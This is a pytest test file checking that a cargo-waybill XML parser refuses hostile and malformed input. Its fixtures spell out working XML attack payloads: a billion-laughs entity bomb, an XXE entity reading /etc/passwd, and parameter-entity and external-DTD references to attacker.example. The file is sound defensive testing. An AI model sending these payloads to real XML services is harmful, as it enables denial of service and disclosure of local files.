"""Hostile and broken XML: refused with a stable code and a line, never expanded, never raising."""

from __future__ import annotations

import pytest
from cargoxml_fixtures import CTX, XFZB, xfwb

from cts.domain.model import Severity
from cts.domain.parsers.cargoxml import XffmParser, XfwbParser, XfzbParser
from cts.domain.parsers.cargoxml.xmltree import MAX_DEPTH, XmlRejected, parse_xml

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rsm:Waybill xmlns:rsm="iata:waybill:1" xmlns:ram="iata:datamodel:3">
  <rsm:BusinessHeaderDocument><ram:ID>&lol9;</ram:ID></rsm:BusinessHeaderDocument>
</rsm:Waybill>
"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE Waybill [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rsm:Waybill xmlns:rsm="iata:waybill:1" xmlns:ram="iata:datamodel:3">
  <rsm:BusinessHeaderDocument><ram:ID>&xxe;</ram:ID></rsm:BusinessHeaderDocument>
</rsm:Waybill>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE Waybill [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<rsm:Waybill xmlns:rsm="iata:waybill:1"/>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Waybill SYSTEM "http://attacker.example/waybill.dtd">
<rsm:Waybill xmlns:rsm="iata:waybill:1"/>
"""


@pytest.mark.parametrize("raw", [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY, EXTERNAL_DTD])
@pytest.mark.parametrize("parser", [XfwbParser(), XfzbParser(), XffmParser()])
def test_doctype_and_entities_are_refused(raw: bytes, parser):
    result = parser.parse(raw, CTX)
    assert result.consignments == []
    [issue] = result.issues
    assert (issue.code, issue.severity, issue.line) == ("XML_FORBIDDEN_CONSTRUCT", Severity.ERROR, 2)


def test_malformed_xml_is_reported_with_its_line():
    raw = xfwb().replace(b"</ram:ConsigneeParty>", b"</ram:Consignee>", 1)
    result = XfwbParser().parse(raw, CTX)
    [issue] = result.issues
    assert issue.code == "MALFORMED_XML"
    assert issue.severity is Severity.ERROR
    assert issue.line == 39  # where </ram:ConsigneeParty> was
    assert "mismatched tag" in issue.message


def test_undeclared_prefix_is_malformed():
    result = XfzbParser().parse(XFZB.replace(b'xmlns:h="iata:housewaybill:1" ', b""), CTX)
    assert [(i.code, i.line) for i in result.issues] == [("MALFORMED_XML", 2)]


@pytest.mark.parametrize(
    "raw", [b"", b"   ", b"not xml", b"\xff\xfe\x00<", b"<a>", b'<?xml version="1.0" encoding="x-nope"?><a/>']
)
def test_garbage_is_malformed(raw: bytes):
    [issue] = XfwbParser().parse(raw, CTX).issues
    assert issue.code == "MALFORMED_XML"


def test_deep_nesting_is_refused():
    raw = b"<a>" * (MAX_DEPTH + 1) + b"</a>" * (MAX_DEPTH + 1)
    with pytest.raises(XmlRejected) as caught:
        parse_xml(raw)
    assert caught.value.code == "XML_LIMIT_EXCEEDED"


def test_other_encodings_are_read():
    raw = xfwb().decode().replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
    [parsed] = XfwbParser().parse(raw, CTX).consignments
    assert parsed.consignment is not None
    assert parsed.consignment.transport_document.number == "176-12345675"
